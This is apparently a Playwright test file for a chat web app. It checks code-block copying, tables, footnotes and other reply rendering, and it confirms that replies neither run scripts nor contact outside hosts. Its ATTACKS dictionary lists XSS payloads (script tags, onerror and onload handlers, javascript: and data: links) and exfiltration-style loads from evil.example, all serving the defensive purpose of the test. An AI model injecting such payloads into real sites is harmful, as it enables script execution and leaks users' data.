"""What a reply may look like, and what it must not do."""

import re
from collections.abc import Iterator
from itertools import islice

import pytest
from playwright.sync_api import Page, Request, expect

from tests.browser.chat import ChatPage
from tests.browser.conftest import OpenPage
from tests.fake_openai import DONE, FakeOpenAI, finish, stream, text
from tests.running import RunningApp

MAKEFILE = "all:  build\n\t@echo  done\n\nbuild:\n\tcc -o a \\\n\t   a.c\n"
DIFF = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-\told  line\n+\tnew  line\n   context\n"
PYTHON = "\tdef f(x):\n\t\treturn x  # why\n"

# The scripted provider says again what it was told, so these stand in the question and in the reply.
ATTACKS = {
    "script": "<script>window.attacked = 1</script>",
    "image-error": "<img src=x onerror='window.attacked = 1'>",
    "svg": "<svg onload='window.attacked = 1'><circle r=1></svg>",
    "javascript-link": "[click](javascript:window.attacked=1)",
    "html-link": "<a href='javascript:window.attacked=1'>click</a>",
    "data-link": "[click](data:text/html,<script>window.attacked=1</script>)",
    "iframe": "<iframe src='https://evil.example/frame'></iframe>",
    "iframe-source": "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "object": "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "image": "![x](https://evil.example/leak.png?said=secret)",
    "html-image": "<img src='https://evil.example/leak.png'>",
    "picture": "<picture><source srcset='https://evil.example/p'><img src='//evil.example/i'></picture>",
    "style": "<style>@import url(https://evil.example/s.css); body{background:url(//evil.example/b)}</style>",
    "background": "<div style='background:url(https://evil.example/b.png)'>x</div>",
    "media": "<video src='https://evil.example/v'></video><audio src='//evil.example/a' autoplay></audio>",
    "base": "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/l.css'>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
    "mathml": "<math><mtext><script>window.attacked=1</script></mtext></math>",
    "details": "<details open ontoggle='window.attacked=1'><summary>x</summary></details>",
    "summary": "<details open><summary onclick='window.attacked=1'>x</summary></details>",
    "key": "<kbd onfocus='window.attacked=1' tabindex=0 autofocus>x</kbd>",
    "raised": "<sup><script>window.attacked=1</script></sup><sub onclick='window.attacked=1'>x</sub>",
    "note": "Look[^1].\n\n[^1]: <img src=x onerror='window.attacked=1'>",
    "title": "<img alt=\"x' onerror='window.attacked=1\" src=x>",
}


@pytest.fixture
def nothing_leaves(chat: ChatPage, app: RunningApp) -> Iterator[None]:
    """The page asks for no address elsewhere that its policy does not hold back."""
    asked: dict[Request, str] = {}

    def note(request: Request) -> None:
        if not request.url.startswith((app.url, "data:", "blob:")):
            asked[request] = request.url

    def take_back(request: Request) -> None:
        if request.failure == "csp":
            del asked[request]

    chat.page.on("request", note)
    chat.page.on("requestfailed", take_back)
    yield
    chat.page.remove_listener("request", note)
    chat.page.remove_listener("requestfailed", take_back)
    assert list(asked.values()) == []


def armed(name: str) -> str:
    """The attack with what tells of its success: its number here, its name elsewhere."""
    number = list(ATTACKS).index(name) + 1
    attack = ATTACKS[name].replace("evil.example", f"{name}.evil.example")
    return re.sub("attacked ?= ?1", f"attacked={number}", attack)


def attacker(page: Page) -> str:
    """The attack that ran last."""
    return ["", *ATTACKS][page.evaluate("window.attacked || 0")]


@pytest.mark.usefixtures("nothing_leaves")
def test_replies_run_nothing_and_fetch_nothing(chat: ChatPage, app: RunningApp) -> None:
    left = iter(ATTACKS)
    while names := list(islice(left, 4)):
        chat.say("\n\n".join(f"{armed(name)} end of {name}" for name in names))
        for name in names:
            expect(chat.replies.last).to_contain_text(f"end of {name}")
        assert attacker(chat.page) == ""
    for link in chat.page.locator("#chatbot .message a").all():
        assert not (link.get_attribute("href") or "").lower().startswith(("javascript:", "data:"))
    for summary in chat.page.locator("#chatbot summary").all():
        summary.click()
    assert attacker(chat.page) == ""
    assert chat.page.url.startswith(app.url)
    chat.reload()
    assert attacker(chat.page) == ""


def test_a_link_can_be_followed_into_a_new_tab_and_a_form_cannot_be_sent_elsewhere(chat: ChatPage) -> None:
    chat.say("[Gradio](https://www.gradio.app/docs)")
    link = chat.replies.get_by_role("link", name="Gradio")
    expect(link).to_have_attribute("href", "https://www.gradio.app/docs")
    expect(link).to_have_attribute("target", "_blank")
    assert "noopener" in (link.get_attribute("rel") or "")
    chat.say("<form action='https://evil.example/f' method=post><button id=bait>go</button></form> end")
    click = "setTimeout(() => document.querySelectorAll('#bait').forEach((bait) => bait.click()))"
    with chat.page.expect_console_message(lambda message: "form-action" in message.text) as refusal:
        chat.page.evaluate(click)
    assert "evil.example" in refusal.value.text


def clipboard(chat: ChatPage) -> str:
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=chat.url.rstrip("/"))
    return str(chat.page.evaluate("navigator.clipboard.readText()"))


def test_code_is_shown_and_copied_to_the_character_and_in_colours(chat: ChatPage) -> None:
    shown = chat.replies.locator("pre code")
    codes = (("make", MAKEFILE), ("diff", DIFF), ("python", PYTHON))
    for count, (language, code) in enumerate(codes, 1):
        chat.say(f"see\n```{language}\n{code}```\nend")
        expect(shown).to_have_count(count)
        assert shown.last.text_content() == code
        chat.replies.locator("pre").last.hover()
        chat.page.locator("#chatbot .copy_code_button").last.click()
        assert clipboard(chat) == code.removesuffix("\n")
    word, plain = (shown.last.get_by_text(text, exact=True) for text in ("return", "f"))
    colour = "word => getComputedStyle(word).color"
    assert word.evaluate(colour) != plain.evaluate(colour)
    chat.reload()
    expect(shown).to_have_count(3)
    assert shown.all_text_contents() == [MAKEFILE, DIFF, PYTHON]


def test_what_a_person_wrote_and_a_reply_are_shown_and_copied_to_the_character(chat: ChatPage) -> None:
    copy = chat.page.get_by_role("button", name="Copy message")
    for code in (MAKEFILE, DIFF, f"\n   {MAKEFILE}"):
        chat.page.locator("#new-chat").click()
        expect(chat.questions).to_have_count(0)
        chat.say(code)
        assert chat.questions.locator(".user-text").text_content() == code
        assert "\t" in chat.questions.first.inner_text()
        copy.first.click()
        assert clipboard(chat) == code
    chat.say(f"   leading\n\n```make\n{MAKEFILE}```")
    copy.last.click()
    assert clipboard(chat) == f"You said:    leading\n\n```make\n{MAKEFILE}```"


def test_thoughts_fold_and_tables_and_formulas_are_drawn_and_prices_are_not(chat: ChatPage) -> None:
    chat.say("[[reason]] why")
    expect(chat.replies.get_by_role("button", name="Thoughts")).to_be_visible()
    expect(chat.replies).to_contain_text("You said: [[reason]] why")
    chat.say("x\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2$ and \\(y\\) and \\[z\\] and $$w$$ for $5 or $6")
    reply = chat.replies.last
    expect(reply.get_by_role("cell", name="2")).to_be_visible()
    expect(reply.locator(".katex")).to_have_count(4)
    expect(reply).to_contain_text("for $5 or $6")
    row = f"|{'a long cell here|' * 12}"
    chat.say(f"{'x' * 200}\n\n{row}\n{'|---' * 12}|\n{row}")
    expect(reply.get_by_role("cell")).to_have_count(12)
    too_wide = "shown => shown.scrollWidth - shown.clientWidth"
    assert chat.page.locator("#chatbot .bubble-wrap").evaluate(too_wide) == 0
    assert reply.locator("table").evaluate(too_wide) > 50  # it scrolls by itself


def test_tables_lists_and_task_boxes_look_as_they_were_meant(open_page: OpenPage) -> None:
    chat = open_page(width=390)
    more = " more |" * 3
    wide = (
        f"| Colour | Wavelength | Scattered |{more}\n|---|--:|:-:|{'---|' * 3}\n| blue | 450 | much |{more}"
    )
    chat.say(f"see\n\n{wide}\n\n- [x] done\n- [ ] open\n  - under it\n\n```\ncode\n```")
    reply = chat.replies.last
    aligned = "cells => cells.map((cell) => getComputedStyle(cell).textAlign)"
    assert reply.locator("td").evaluate_all(aligned)[1:3] == ["right", "center"]
    done, left = reply.get_by_role("checkbox").all()
    colour = "box => getComputedStyle(box).backgroundColor"
    assert done.evaluate(colour) != left.evaluate(colour)
    size = "line => getComputedStyle(line).fontSize"
    assert len({line.evaluate(size) for line in reply.locator("li").all()}) == 1
    assert reply.locator("pre code").evaluate(size) == "14px"
    table = reply.locator("table")
    assert table.evaluate("table => table.scrollWidth - table.clientWidth") > 20
    assert table.evaluate("table => getComputedStyle(table).backgroundAttachment").count("local") == 2
    assert reply.locator("td").first.evaluate("cell => cell.clientWidth") >= 80


def test_what_can_be_done_with_a_message_is_shown_when_it_is_wanted(
    chat: ChatPage, open_page: OpenPage
) -> None:
    chat.say("one")
    chat.say("two")
    shown = chat.page.locator("#chatbot")
    copies = shown.get_by_role("button", name="Copy message")
    facts = shown.locator(".facts")
    chat.box.hover()
    actions = shown.locator(".message-buttons")
    for quiet in (actions.nth(0), actions.nth(1), facts.first):
        expect(quiet).to_have_css("opacity", "0")
    for kept in (actions.nth(3), facts.last):
        expect(kept).to_have_css("opacity", "1")
    chat.replies.first.hover()
    expect(actions.nth(1)).to_have_css("opacity", "1")
    expect(facts.first).to_have_css("opacity", "1")
    copies.first.focus()
    expect(actions.nth(0)).to_have_css("opacity", "1")
    phone = open_page(width=390, has_touch=True, is_mobile=True)
    phone.say("one")
    phone.say("two")
    actions = phone.page.locator("#chatbot .message-buttons")
    expect(actions.nth(1)).to_have_css("opacity", "0")
    phone.replies.first.tap()
    expect(actions.nth(1)).to_have_css("opacity", "1")


RICH = """A note[^1], <kbd>Ctrl</kbd>, H<sub>2</sub>O and x<sup>2</sup>.

<details><summary>More</summary>

Hidden **words**

</details>

[^1]: What it says.
"""


def test_notes_keys_and_details_of_a_reply_are_drawn_and_code_is_named_wrapped_saved_and_folded(
    chat: ChatPage, provider: FakeOpenAI
) -> None:
    code = "".join(f"value_{number} = {number}\n" for number in range(60)) + f"wide = '{'x ' * 200}'\n"
    short = "```\n" + "one line\n" * 39 + "```"
    provider.answers.append(stream(text(f"{RICH}\n```python\n{code}```\n\n{short}\n"), finish(), DONE))
    chat.say("rich")
    reply = chat.replies.last
    expect(reply.locator("sup")).to_have_text(["1", "2", "1"])
    number = reply.get_by_role("link", name="Note 1", exact=True)
    note = reply.get_by_role("link", name="Note 1: back to the text")
    address = chat.page.url
    number.click()
    expect(note).to_be_focused()
    note.press("Enter")
    expect(number).to_be_focused()
    assert chat.page.url == address
    href = number.get_attribute("href")
    assert href
    expect(reply.locator(href)).to_have_text("1")
    expect(reply.locator("kbd")).to_have_text("Ctrl")
    expect(reply.get_by_text("Hidden words")).to_be_hidden()
    reply.get_by_text("More").click()
    expect(reply.get_by_text("Hidden words")).to_be_visible()

    block = reply.locator(".code_wrap").first
    expect(block).to_have_attribute("data-language", "python")
    hidden = "pre => pre.scrollHeight - pre.clientHeight"
    show_all = reply.get_by_role("button", name="Show all")
    expect(show_all).to_have_count(1)  # the other block is short
    assert block.locator("pre").evaluate(hidden) > 500
    show_all.click()
    assert block.locator("pre").evaluate(hidden) < 20  # the bar that scrolls sideways
    is_wide = "block => block.scrollWidth > block.clientWidth"
    assert block.locator("pre").evaluate(is_wide)
    block.get_by_role("button", name="Wrap lines").click()
    assert not block.locator("pre").evaluate(is_wide)
    with chat.page.expect_download() as saved:
        block.get_by_role("button", name="Download the code").click()
    assert saved.value.suggested_filename == "code.py"
    assert saved.value.path().read_text(encoding="utf-8") == code
    block.locator(".copy_code_button").click()
    assert clipboard(chat) == code.removesuffix("\n")
    chat.page.locator("#chatbot").get_by_role("button", name="Copy message").last.click()
    assert clipboard(chat).startswith(RICH[:60])
    assert "[^1]: What it says." in clipboard(chat)
